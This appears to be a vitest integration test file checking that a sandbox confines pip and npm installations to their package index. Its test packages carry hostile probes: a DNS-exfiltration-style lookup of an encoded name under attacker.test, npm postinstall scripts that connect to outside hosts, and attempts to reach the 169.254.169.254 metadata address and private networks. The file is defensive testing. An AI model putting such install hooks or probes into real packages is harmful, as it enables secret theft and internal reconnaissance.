/** An installation, and the code of packages in it, can reach only the configured index. */
import { connect } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { ensureBaseImage } from '../../../../src-daemon/engine/docker/images/base-image.ts';
import { openInstallerNetwork } from '../../../../src-daemon/engine/docker/network/installer-network.ts';
import { refusedHostIn } from '../../../../src-daemon/engine/refused-host.ts';
import { explainFailure } from '../../../../src-daemon/packages/install/explain-failure.ts';
import { bridgeAddress, type PackageIndex, startPackageIndex } from '../../../daemon/packages/package-index.ts';
import { type BuiltFile, buildSourceDistribution, buildWheel } from '../../../daemon/packages/wheels.ts';
import { canMakeFarHost, type FarHost, listenEverywhere, makeFarHost } from '../../../support/network/far-host.ts';
import { startNameServer } from '../../../support/network/name-server.ts';
import { until } from '../../../support/until.ts';
import { containersOf, describeWithDocker, type Fixture, jobOf, linkTo, silentLog } from '../docker-fixture.ts';
import { installPackage, removeLayers } from '../packages/install-package.ts';
import { asBackend, probing, reportMark, reportOf, type Target } from '../packages/installer-programs.ts';
import { startNpmRegistry } from '../packages/npm-registry.ts';

type Source = Readonly<Record<'indexUrl' | 'proxy', string>> | { indexUrl: string };

const isAble = canMakeFarHost();
if (!isAble) console.warn('SKIPPED, only root can make a network to try against: the network of an installer');

/** Every name resolves to a private address of this machine, where the index listens, except that of the far index. */
const bridge = await bridgeAddress().catch(() => '172.17.0.1');
const names = await startNameServer((name) => ({ a: [name === 'far-index.test' ? '192.88.99.2' : bridge] }));
afterAll(names.stop);

const plan = {
  ...{ name: 'far3', network: '192.88.99', ownAddresses: ['169.254.169.254'] },
  privateAddresses: ['10.98.77.5', '172.29.77.5', '192.168.77.5', '100.100.77.5', '198.18.77.5'],
};
const options = { keepsWarm: false, nameServers: () => [names.at] };
if (isAble || process.env.CI === 'true') describeWithDocker('the code of a package during its build', attacks, options);

function attacks(fixture: () => Fixture): void {
  let far: FarHost;
  let index: PackageIndex;
  let url: string;

  beforeAll(async () => {
    index = await startPackageIndex();
    url = index.url.replace(/\/\/[^:]*/, '//index.test');
    index.publish(buildWheel({ name: 'plain', version: '1.0' }));
    await installPackage(fixture().engine, { packageManager: 'pip', name: 'plain', source: { indexUrl: url } });
    far = await makeFarHost(plan);
  });
  afterAll(async () => {
    await far?.remove();
    await index.stop();
  });

  async function probe(name: string, targets: readonly Target[], source: Source = { indexUrl: url }) {
    index.publish(buildSourceDistribution({ name, version: '1.0', backend: asBackend(probing(targets)) }));
    const lines: string[] = [];
    const order = { packageManager: 'pip', name, source } as const;
    await expect(installPackage(fixture().engine, order, lines)).rejects.toMatchObject({ fault: 'installer' });
    return { reached: reportOf(lines), why: explainFailure({ manager: 'pip', fault: 'installer' }, lines), lines };
  }

  test('reaches the index by its name at a private address, and no public address', { timeout: 120_000 }, async () => {
    expect(names.asked).toContain('index.test');
    expect(await greet(far.address, far.port)).toBe('hello from far');
    const { reached } = await probe('outward', [[far.address, far.port]]);
    expect(reached).toEqual([]);
    expect(index.requests).toContain('/simple/outward/');
  });

  test('reaches an index at a public address, but no other port of it', { timeout: 120_000 }, async () => {
    const backend = asBackend(probing([[far.address, far.port]]));
    const packages = [buildSourceDistribution({ name: 'remote', version: '1.0', backend })];
    const source = { indexUrl: await startFarIndex(far, packages) };
    const lines: string[] = [];
    const order = { packageManager: 'pip', name: 'remote', source } as const;
    await expect(installPackage(fixture().engine, order, lines)).rejects.toMatchObject({ fault: 'installer' });
    expect(reportOf(lines)).toEqual([]);
  });

  test('resolves no other name: the question never leaves, and the failure names the host', {
    timeout: 120_000,
  }, async () => {
    const asked = 'c2VjcmV0LWRhdGE.attacker.test';
    const { reached, why, lines } = await probe('telling', [[asked, far.port]]);
    expect(reached).toEqual([]);
    expect(names.asked.filter((name) => name.endsWith('attacker.test'))).toEqual([]);
    expect(lines.filter((line) => refusedHostIn(line) !== undefined).map(refusedHostIn)).toEqual([asked.toLowerCase()]);
    expect(why).toContain(`tried to reach ${asked.toLowerCase()}, but it can reach only its package index`);
  });

  test('of npm reaches no other host either, and the failure names it', { timeout: 120_000 }, async () => {
    const registry = await startNpmRegistry();
    const program = (host: string) =>
      `require('net').connect(${far.port}, '${host}').on('data', () => console.log('${reportMark}"reached"'))`;
    try {
      registry.publish({
        name: 'fetching',
        scripts: { postinstall: 'node a.js' },
        files: { 'a.js': program(far.address) },
      });
      registry.publish({
        name: 'naming',
        scripts: { postinstall: 'node a.js' },
        files: { 'a.js': program('cdn.test') },
      });
      for (const [name, host] of [
        ['fetching', far.address],
        ['naming', 'cdn.test'],
      ] as const) {
        const lines: string[] = [];
        const order = { packageManager: 'npm', name, source: { indexUrl: registry.url } } as const;
        await expect(installPackage(fixture().engine, order, lines)).rejects.toMatchObject({ fault: 'installer' });
        expect(lines.join('\n')).not.toContain(`${reportMark}"reached"`);
        expect(explainFailure({ manager: 'npm', fault: 'installer' }, lines)).toContain(`tried to reach ${host}, but`);
      }
      expect(names.asked).not.toContain('cdn.test');
    } finally {
      await registry.stop();
    }
  });

  test('reaches no other private address', { timeout: 120_000 }, async () => {
    const host = await listenEverywhere();
    const own = Object.values(networkInterfaces()).flatMap((found) => found ?? []);
    const machine = [...own.map(({ address }) => address), '0.0.0.0', '::1', '::ffff:172.17.0.1', 'rebound.test'];
    const neighbour = await startNeighbour(fixture());
    const targets: Target[] = [
      ...machine.map((address) => [address, host.port] as const),
      ...far.privateAddresses.map((address) => [address, far.port] as const),
      ...neighbour.addresses.map((address) => [address, 7000] as const),
    ];
    try {
      // The targets can be reached from this machine.
      for (const address of far.ownAddresses) expect(await greet(address, host.port)).toBe('hello from the host');
      for (const address of far.privateAddresses) expect(await greet(address, far.port)).toBe('hello from far');
      expect(own.map(({ address }) => address)).toContain('169.254.169.254');
      expect((await probe('inward', targets)).reached).toEqual([]);
      expect(host.count()).toBe(far.ownAddresses.length);
    } finally {
      await neighbour.stop();
      host.server.close();
    }
  });

  test('reaches only the proxy if there is one, and no name server', { timeout: 120_000 }, async () => {
    // The index also works as a proxy: a client sends whole addresses to it.
    const source = { indexUrl: 'http://packages.invalid/simple/', proxy: new URL(index.url).origin };
    const targets: Target[] = [far.address, 'elsewhere.test'].map((host) => [host, far.port]);
    expect((await probe('enclosed', targets, source)).reached).toEqual([]);
    expect(names.asked).not.toContain('elsewhere.test');
  });

  test('leaves no container and no network behind', async () => {
    const { docker, engine, instanceId } = fixture();
    await removeLayers(engine);
    await engine.stop();
    expect(await containersOf(docker, instanceId)).toEqual([]);
    const filters = { label: [`app.strongroom.instance=${instanceId}`] };
    expect(await docker.listNetworks({ filters })).toEqual([]);
  });
}

describeWithDocker(
  'an engine that cannot close the network of an installer',
  (fixture) => {
    test('refuses the installation and leaves nothing', async () => {
      const { docker, instanceId } = fixture();
      const { Id: imageId } = await docker.getImage(await ensureBaseImage(docker, 'x86_64', () => {})).inspect();
      const opening = openInstallerNetwork(
        { link: linkTo(docker), log: silentLog, instanceId, imageId, lookup: async () => ['192.0.2.1'] },
        { packageManager: 'pip', source: { certificates: '' } },
        () => {},
      );
      await expect(opening).rejects.toMatchObject({
        code: 'engine_unavailable',
        message: expect.stringContaining('cannot limit the installer to the package index'),
      });
      await until(async () => (await containersOf(docker, instanceId)).length === 0);
    });
  },
  { keepsWarm: false },
);

/** Starts a package index on the far host and returns its address. */
async function startFarIndex(far: FarHost, files: readonly BuiltFile[]): Promise<string> {
  const program = `
const files = new Map(JSON.parse(process.env.FILES));
require('node:http').createServer((request, response) => {
  const file = files.get(request.url.slice('/files/'.length));
  if (file !== undefined) return response.end(Buffer.from(file, 'base64'));
  const links = [...files.keys()].map((name) => '<a href="/files/' + name + '">' + name + '</a>');
  response.writeHead(200, { 'content-type': 'text/html' }).end('<!DOCTYPE html>' + links);
}).listen(8081, '0.0.0.0', () => console.log('up'));`;
  const contents = files.map(({ fileName, content }) => [fileName, Buffer.from(content).toString('base64')]);
  await far.start(program, { FILES: JSON.stringify(contents) });
  return 'http://far-index.test:8081/simple/';
}

/** Starts a run that listens on port 7000. Returns the addresses of its container and of the bridge. */
async function startNeighbour({ engine, docker, instanceId }: Fixture) {
  const cancel = new AbortController();
  const up = Promise.withResolvers<void>();
  const code =
    'import socket\ns = socket.create_server(("", 7000))\nprint("up")\nwhile True: s.accept()[0].sendall(b"hello from next door")';
  const job = jobOf({ language: 'python', code, network: 'full', timeoutMs: 60_000 });
  const server = engine.run(job, { signal: cancel.signal, onOutput: () => up.resolve() });
  await Promise.race([up.promise, server]);
  const holders = (await containersOf(docker, instanceId)).filter(
    ({ Labels }) => Labels['app.strongroom.role'] === 'netns',
  );
  const addresses = holders.flatMap(({ NetworkSettings }) =>
    Object.values(NetworkSettings.Networks).flatMap(({ IPAddress, Gateway }) => [IPAddress, Gateway]),
  );
  expect(addresses).toHaveLength(2);
  const stop = async () => {
    cancel.abort();
    await server;
  };
  return { addresses, stop };
}

async function greet(host: string, port: number): Promise<string> {
  const socket = connect({ host, port });
  let text = '';
  for await (const chunk of socket) text += String(chunk);
  return text;
}
